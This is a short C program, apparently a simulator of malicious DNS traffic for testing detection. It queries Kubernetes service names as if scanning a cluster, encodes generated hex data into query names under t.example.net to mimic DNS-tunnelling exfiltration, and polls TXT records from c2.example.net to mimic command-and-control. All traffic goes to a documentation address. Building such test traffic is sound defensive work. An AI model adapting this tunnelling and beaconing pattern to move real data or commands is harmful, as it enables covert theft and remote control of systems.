/* Talks to a name server: data in names, commands in text records, many names of a cluster. */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

enum { A = 1, TEXT = 16 };

/* Asks for `name` and returns the length of the answer. */
static ssize_t ask(int fd, const char *name, int kind)
{
    unsigned char question[512] = { 0x12, 0x34, 1, 0, 0, 1 }, answer[1024];
    size_t at = 12;
    while (*name) {
        size_t label = strcspn(name, ".");
        question[at++] = (unsigned char)label;
        memcpy(question + at, name, label);
        at += label;
        name += label + (name[label] == '.');
    }
    question[at + 2] = (unsigned char)kind;
    question[at + 4] = 1;
    if (send(fd, question, at + 5, 0) < 0)
        return -1;
    return recv(fd, answer, sizeof answer, 0);
}

static int names(int fd)
{
    const char *services[] = { "kubernetes", "kube-dns", "metrics-server", "vault", "postgres",
                               "redis", "grafana", "prometheus", "argocd-server", "dashboard" };
    const char *spaces[] = { "default", "kube-system", "monitoring", "prod", "dev" };
    char name[256];
    for (int count = 0; count < 50; count++) {
        snprintf(name, sizeof name, "%s.%s.svc.cluster.local", services[count % 10],
                 spaces[count / 10]);
        if (ask(fd, name, A) < 12)
            return 1;
    }
    return puts("asked") < 0;
}

/* 300 names with 100 bytes of data each, in two labels of hexadecimal digits. */
static int send_data(int fd)
{
    char name[256], digits[61];
    unsigned state = 12345;
    for (int count = 0; count < 300; count++) {
        for (int digit = 0; digit < 60; digit++) {
            state = state * 1103515245u + 12345u;
            digits[digit] = "0123456789abcdef"[state >> 28];
        }
        digits[60] = 0;
        snprintf(name, sizeof name, "%s.%.40s.%d.t.example.net", digits, digits, count);
        if (ask(fd, name, A) < 12)
            return 1;
    }
    return puts("sent") < 0;
}

static int fetch(int fd)
{
    char name[256];
    for (int count = 0; count < 100; count++) {
        snprintf(name, sizeof name, "c%d-3f9a77b0e1.c2.example.net", count);
        if (ask(fd, name, TEXT) < 40)
            return 1;
    }
    return puts("received") < 0;
}

int main(int count, char **words)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) };
    struct timeval patience = { 2, 0 };
    inet_pton(AF_INET, "203.0.113.53", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    if (count != 2 || connect(fd, (void *)&to, sizeof to))
        return 2;
    if (!strcmp(words[1], "names"))
        return names(fd);
    return strcmp(words[1], "send") ? fetch(fd) : send_data(fd);
}
